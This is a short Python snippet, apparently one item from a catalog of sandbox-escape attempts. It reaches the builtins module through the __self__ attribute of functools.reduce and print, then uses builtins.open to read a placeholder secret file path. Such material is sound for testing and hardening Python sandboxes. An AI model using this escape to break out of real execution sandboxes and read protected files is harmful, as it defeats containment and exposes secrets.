# family: functools/collections internals
# goal: reach the _functools module and builtins through __self__
import functools
mod = functools.reduce.__self__
print(mod)
b = print.__self__
print(b.open("__SECRET_PATH__").read())
